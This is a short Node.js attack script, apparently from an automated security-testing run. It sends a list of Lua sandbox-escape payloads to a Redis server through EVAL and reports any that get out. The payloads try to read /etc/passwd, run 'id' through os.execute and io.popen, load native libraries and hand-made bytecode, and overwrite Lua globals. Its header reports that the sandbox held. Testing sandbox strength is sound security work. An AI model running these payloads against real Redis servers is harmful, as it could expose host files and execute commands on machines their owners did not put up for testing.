// exploit: leaves the Lua of its Redis for the machine: files, programs, libraries, byte code made by hand
// outcome: finished
// says: Lua held
// job: {"services":["redis"]}
const { createClient } = require('redis')

const WAYS = [
  "return io.open('/etc/passwd'):read('*a')",
  "return os.execute('id')",
  "return io.popen('id'):read('*a')",
  "return package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')()",
  "return require('os').getenv('PATH')",
  "return loadfile('/etc/passwd')",
  "return dofile('/etc/passwd')",
  "return tostring(debug.getregistry())",
  "return loadstring(string.dump(function() return 1 end))()",
  "return getmetatable('').__index.rep and setmetatable(_G, {}) and 'replaced'",
  "_G.redis = nil return 'replaced'",
]

async function attack() {
  const client = await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  for (const way of WAYS) {
    const answer = await client.sendCommand(['EVAL', way, '0']).catch((error) => error)
    if (!(answer instanceof Error)) console.log('ESCAPED', way, answer)
  }
  if ((await client.sendCommand(['EVAL', "return redis.call('PING')", '0'])) === 'PONG') console.log('Lua held')
  client.destroy()
}
attack()
